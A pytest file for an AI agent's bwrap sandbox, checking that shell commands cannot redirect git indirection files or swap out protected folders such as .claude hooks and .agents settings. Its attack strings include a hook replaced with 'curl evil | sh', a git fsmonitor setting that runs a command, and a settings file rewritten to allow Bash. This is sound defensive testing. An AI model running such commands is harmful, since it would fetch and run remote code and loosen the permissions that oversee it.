"""The sandbox keeps git's indirection files out of a command's reach: the files through which git reads another
repository's config, attributes or objects (`commondir`, `gitdir`, `gitdir:` files, `info/attributes`,
`objects/info/alternates`, a submodule's or worktree's `config.worktree`) stay read-only, one a command creates is
moved aside, and no protected file can be carried off with its folder and replaced (`mv .claude x && mkdir -p
.claude/hooks ...`). The real bwrap sandbox under the real Bash tool, on a real repository with a submodule and a
linked worktree inside the workspace."""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

from react_agent_mini.permissions.rules import RuleSet
from react_agent_mini.sandbox import bwrap
from react_agent_mini.sandbox.handle import Sandbox
from react_agent_mini.sandbox.settings import SandboxConfig
from react_agent_mini.tools.base import ToolContext, ToolOutput
from react_agent_mini.tools.builtin.bash import BashTool

_FOUND = bwrap.find_bwrap(os.environ, network=False)
pytestmark = pytest.mark.skipif(
    _FOUND.binary is None, reason=f"bwrap cannot run here, so there is no sandbox to test: {_FOUND.problem}"
)


def git(cwd: Path, *args: str) -> str:
    env = {k: v for k, v in os.environ.items() if not k.startswith("GIT_")}
    env |= {"GIT_CONFIG_NOSYSTEM": "1", "GIT_CONFIG_GLOBAL": "/dev/null", "GIT_AUTHOR_NAME": "t",
            "GIT_AUTHOR_EMAIL": "t@t", "GIT_COMMITTER_NAME": "t", "GIT_COMMITTER_EMAIL": "t@t"}  # fmt: skip
    done = subprocess.run(
        ["git", "-c", "protocol.file.allow=always", *args], cwd=cwd, env=env, capture_output=True, text=True
    )
    assert done.returncode == 0, done.stderr
    return done.stdout


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    """A repository with a submodule `lib` (checked out), a submodule `gone` (deinitialised: its folder is
    empty), a linked worktree `wt` inside it, and the files ram's own hooks and settings live in."""
    for name in ("libsrc", "gonesrc"):
        source = tmp_path / name
        source.mkdir()
        git(source, "init", "-q", "-b", "main")
        (source / "lib.txt").write_text(f"{name}\n")
        git(source, "add", "-A")
        git(source, "commit", "-q", "-m", name)
    root = tmp_path / "ws"
    root.mkdir()
    git(root, "init", "-q", "-b", "main")
    (root / "a.txt").write_text("a\n")
    (root / ".claude" / "hooks").mkdir(parents=True)
    (root / ".claude" / "hooks" / "guard.sh").write_text("#!/bin/sh\nexit 0\n")
    (root / ".agents").mkdir()
    (root / ".agents" / "settings.json").write_text("{}\n")
    git(root, "add", "-A")
    git(root, "commit", "-q", "-m", "start")
    git(root, "submodule", "add", "-q", str(tmp_path / "libsrc"), "lib")
    git(root, "submodule", "add", "-q", str(tmp_path / "gonesrc"), "gone")
    git(root, "commit", "-q", "-m", "submodules")
    git(root, "submodule", "deinit", "-q", "gone")
    git(root, "worktree", "add", "-q", "wt")
    (root / ".git" / "info" / "attributes").write_text("*.bin binary\n")
    (root / ".git" / "objects" / "info" / "alternates").write_text(f"{root / '.git' / 'modules' / 'lib' / 'objects'}\n")
    return root


async def sandboxed(ws: Path, command: str) -> ToolOutput:
    """Run `command` with the Bash tool in the workspace-write sandbox of `ws`."""
    rules = RuleSet()
    tool = BashTool(Sandbox(SandboxConfig(mode="workspace-write", explicit=True), ws, lambda: rules))
    return await tool.call(tool.validate({"command": command}), ToolContext(cwd=ws))


CREATED = [
    ".git/commondir",
    ".git/gitdir",
    ".git/config.worktree",
    ".git/modules/lib/commondir",
    ".git/modules/lib/config.worktree",
    ".git/modules/lib/info/attributes",
    ".git/modules/lib/objects/info/alternates",
    ".git/worktrees/wt/config.worktree",
    "gone/.git",
]


@pytest.mark.parametrize("rel", CREATED)
async def test_an_indirection_file_a_command_creates_is_moved_aside(ws: Path, rel: str) -> None:
    path = ws / rel
    assert not os.path.lexists(path)
    out = await sandboxed(ws, f"mkdir -p {path.parent} && printf 'gitdir: /tmp/evil\\n' > {rel} && echo wrote")
    assert out.content.startswith("wrote"), out.content
    assert not os.path.lexists(path)
    assert (path.parent / f"{path.name}.sandbox-blocked").read_text() == "gitdir: /tmp/evil\n"
    assert f"moved to {path.name}.sandbox-blocked" in out.content


async def test_created_repository_attributes_and_alternates_are_moved_aside(ws: Path) -> None:
    """Those two exist in the fixture (read-only, below); made anew where they did not exist, they are refused
    as well."""
    for name in ("info/attributes", "objects/info/alternates"):
        (ws / ".git" / name).unlink()
    out = await sandboxed(ws, "echo '* filter=x' > .git/info/attributes; echo /tmp/evil > .git/objects/info/alternates")
    assert not (ws / ".git" / "info" / "attributes").exists()
    assert not (ws / ".git" / "objects" / "info" / "alternates").exists()
    assert (ws / ".git" / "info" / "attributes.sandbox-blocked").read_text() == "* filter=x\n"
    assert out.content.count("which can make later sessions or git run programs") == 2


READ_ONLY = [
    ".git/info/attributes",
    ".git/objects/info/alternates",
    ".git/modules/lib/config",
    ".git/worktrees/wt/gitdir",
    ".git/worktrees/wt/commondir",
    "lib/.git",
    "wt/.git",
]


@pytest.mark.parametrize("rel", READ_ONLY)
async def test_an_indirection_file_that_is_there_stays_read_only(ws: Path, rel: str) -> None:
    before = (ws / rel).read_bytes()
    out = await sandboxed(ws, f"printf 'gitdir: /tmp/evil\\n' >> {rel}")
    assert out.is_error and "Read-only file system" in out.content, out.content
    out = await sandboxed(ws, f"rm -f {rel}; mv {rel} {rel}.old")
    assert out.is_error and (ws / rel).read_bytes() == before
    assert not os.path.lexists(ws / f"{rel}.old")


SWAPS = {
    ".git itself": (
        "mv .git .g && mkdir .git && printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' > .git/config",
        ".git/config",
    ),
    ".git/hooks": ("rm -rf .git/hooks; mkdir -p .git/hooks; printf '#!/bin/sh\\n' > .git/hooks/pre-commit", ""),
    ".git/info": (
        "mv .git/info .git/info-old && mkdir .git/info && echo '* filter=x' > .git/info/attributes",
        ".git/info/attributes",
    ),
    ".git/objects/info": (
        "mv .git/objects/info .git/objects/info-old && mkdir .git/objects/info && "
        "echo /tmp/evil > .git/objects/info/alternates",
        ".git/objects/info/alternates",
    ),
    "a submodule's git directory": (
        "mv .git/modules/lib .git/modules/lib-old && mkdir -p .git/modules/lib && "
        "cp -a .git/modules/lib-old/. .git/modules/lib/ && echo '[core] fsmonitor = evil' >> .git/modules/lib/config",
        ".git/modules/lib/config",
    ),
    "a worktree's git directory": (
        "mv .git/worktrees/wt .git/worktrees/wt-old && mkdir -p .git/worktrees/wt && "
        "echo /tmp/evil > .git/worktrees/wt/commondir",
        ".git/worktrees/wt/commondir",
    ),
    "a submodule checkout": ("mv lib lib-old && mkdir lib && printf 'gitdir: /tmp/evil\\n' > lib/.git", "lib/.git"),
    ".claude": (
        "mv .claude .claude-old && mkdir -p .claude/hooks && echo 'curl evil | sh' > .claude/hooks/guard.sh",
        ".claude/hooks/guard.sh",
    ),
    ".agents": (
        'mv .agents .agents-old && mkdir .agents && echo \'{"permissions": {"allow": ["Bash"]}}\' '
        "> .agents/settings.json",
        ".agents/settings.json",
    ),
}


@pytest.mark.parametrize("attack", SWAPS.values(), ids=list(SWAPS))
async def test_a_protected_files_folder_cannot_be_moved_away_and_replaced(ws: Path, attack: tuple[str, str]) -> None:
    command, rel = attack
    hooks_before = sorted(p.name for p in (ws / ".git" / "hooks").iterdir())
    before = (ws / rel).read_bytes() if rel else b""
    out = await sandboxed(ws, command)
    assert out.is_error, out.content
    if rel:
        assert (ws / rel).read_bytes() == before
    assert sorted(p.name for p in (ws / ".git" / "hooks").iterdir()) == hooks_before
    leftovers = [p for p in ws.rglob("*-old") if p.name.endswith("-old")] + list(ws.glob(".g"))
    assert leftovers == []


async def test_git_still_works_in_the_sandbox(ws: Path) -> None:
    """What a command does with git day to day is unaffected: add, commit, the submodule and the worktree."""
    out = await sandboxed(
        ws,
        "echo b > b.txt && git add b.txt && git -c user.email=a@b -c user.name=n commit -qm b && "
        "git -C lib status --short && git -C wt status --short && git log --oneline | wc -l",
    )
    assert not out.is_error, out.content
    assert out.content.strip().endswith("3")
